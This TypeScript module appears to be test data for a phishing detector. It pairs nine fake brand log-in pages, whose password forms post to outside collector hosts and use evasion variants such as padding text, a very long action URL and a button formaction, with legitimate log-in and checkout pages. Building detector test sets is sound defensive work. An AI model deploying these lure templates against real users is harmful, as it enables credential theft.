interface LurePage {
  readonly name: string;
  readonly draw: (brand: string, stranger: string) => string;
}

interface HonestPage {
  readonly name: string;
  readonly draw: (host: string) => string;
}

/** Whoever takes a password that is not meant for him: a host of his own, a number, a customer of a service. */
export const STRANGERS: readonly string[] = [
  'https://quiet-collect.net/take',
  'http://203.0.113.9/in.php',
  'https://meadow-desk.workers.dev/',
  'https://formspree.io/f/xqkrjabc',
  'https://docs.google.com/forms/d/e/1FAIpQLSf/formResponse',
];

const FIELDS =
  '<label>Email <input type="email" name="email"></label> <label>Password <input type="password" name="password"></label>';
const LINKS = ['Help', 'Contact', 'Privacy', 'Terms', 'About us', 'Careers', 'Press', 'Security']
  .map((words, place) => `<a href="/page-${place}">${words}</a>`)
  .join(' ');
const MANY_LINKS = Array.from({ length: 30 }, (_, place) => `<a href="/article-${place}">Article ${place}</a>`).join(
  ' ',
);
const ARTICLE = `<p>${'Everything about your account, your orders and your settings in one place. '.repeat(60)}</p>`;

function form(action: string, fields = FIELDS): string {
  return `<form method="post" action="${action}">${fields} <button>Log in</button></form>`;
}

function page(title: string, heading: string, rest: string): string {
  return `<!doctype html><meta charset="utf-8"><title>${title}</title><h1>${heading}</h1>${rest}`;
}

function lure(name: string, draw: LurePage['draw']): LurePage {
  return { name, draw };
}

export const LURE_PAGES: readonly LurePage[] = [
  lure('alone', (brand, stranger) => page(`${brand}: Log in`, brand, form(stranger))),
  lure('within a site', (brand, stranger) => page(`${brand}: Log in`, brand, LINKS + form(stranger) + LINKS)),
  lure('over much text', (brand, stranger) =>
    page(`Log in to your ${brand} account`, `Welcome to ${brand}`, LINKS + form(stranger) + ARTICLE),
  ),
  lure('among many pages', (brand, stranger) => page(`${brand}: Log in`, brand, MANY_LINKS + form(stranger) + ARTICLE)),
  lure('to a long address', (brand, stranger) =>
    page(`${brand}: Log in`, brand, LINKS + form(`${stranger}?${'a'.repeat(5_000)}`)),
  ),
  lure('in German', (brand, stranger) =>
    page(`${brand} – Anmelden`, `Willkommen bei ${brand}`, LINKS + form(stranger)),
  ),
  lure('beside other providers', (brand, stranger) =>
    page(
      `${brand} | Sign in`,
      brand,
      `${LINKS}${form(stranger)}<button>Continue with Google</button> <button>Continue with Apple</button>`,
    ),
  ),
  lure('by the button', (brand, stranger) =>
    page(
      `${brand}: Log in`,
      brand,
      `${LINKS}<form method="post">${FIELDS} <button formaction="${stranger}">Log in</button></form>`,
    ),
  ),
  lure('with a copyright line', (brand, stranger) =>
    page(
      `Sign in - ${brand}`,
      brand,
      `${LINKS}${form(stranger)}<footer>© 2026 ${brand}. All rights reserved.</footer>`,
    ),
  ),
];

/** The name that a site bears on its own pages. */
function firmOf(host: string): string {
  const [label = ''] = host.split('.');
  return label.charAt(0).toUpperCase() + label.slice(1);
}

function honest(name: string, draw: (firm: string, host: string) => string): HonestPage {
  return { name, draw: (host) => draw(firmOf(host), host) };
}

function firmsLogin(action: string, more = ''): (firm: string) => string {
  return (firm) => page(`Sign in – ${firm}`, `Sign in to ${firm}`, LINKS + form(action) + more);
}

const WITH_OTHERS = `<p><a href="https://accounts.google.com/o/oauth2/auth"><img alt="Google" src="/g.svg"> Sign in with Google</a>
  <a href="https://appleid.apple.com/auth/authorize"><img alt="Apple" src="/a.svg"> Sign in with Apple</a>
  <a href="https://www.facebook.com/dialog/oauth"><img alt="Facebook" src="/f.svg"> Continue with Facebook</a></p>`;
const LOGOS = `<p>We accept <img alt="PayPal" src="/p.svg"> <img alt="Visa" src="/v.svg"> <img alt="Mastercard" src="/m.svg">
  <img alt="Klarna" src="/k.svg"> <a href="https://www.paypal.com/checkoutnow">Pay with PayPal</a></p>`;
const CARD = '<label>Card number <input name="card" autocomplete="cc-number"></label>';

export const HONEST_PAGES: readonly HonestPage[] = [
  honest("a firm's own log-in", firmsLogin('/in')),
  honest("a firm's log-in with sign-in by others", firmsLogin('/in', WITH_OTHERS)),
  honest("a firm's log-in at Okta", firmsLogin('https://meadow.okta.com/login/do-login')),
  honest("a firm's log-in at Auth0", firmsLogin('https://meadow.eu.auth0.com/usernamepassword/login')),
  honest("a firm's log-in at Microsoft", firmsLogin('https://login.microsoftonline.com/common/login')),
  honest("a firm's log-in at Microsoft, by that name", (firm) =>
    page('Microsoft – Sign in', `Sign in to ${firm}`, LINKS + form('https://login.microsoftonline.com/common/login')),
  ),
  honest("a firm's log-in at a stranger's", firmsLogin('https://members.clubdesk-example.net/in')),
  honest('a shop with payment logos', (firm) =>
    page(`Checkout – ${firm}`, 'Your order', `${LINKS}<p>Total 34.20 EUR</p>${form('/pay', CARD)}${LOGOS}`),
  ),
  honest("a shop's log-in with payment logos", firmsLogin('/in', LOGOS)),
  honest("a shop's log-in with payment logos, kept elsewhere", firmsLogin('https://shop.basket-example.net/in', LOGOS)),
];
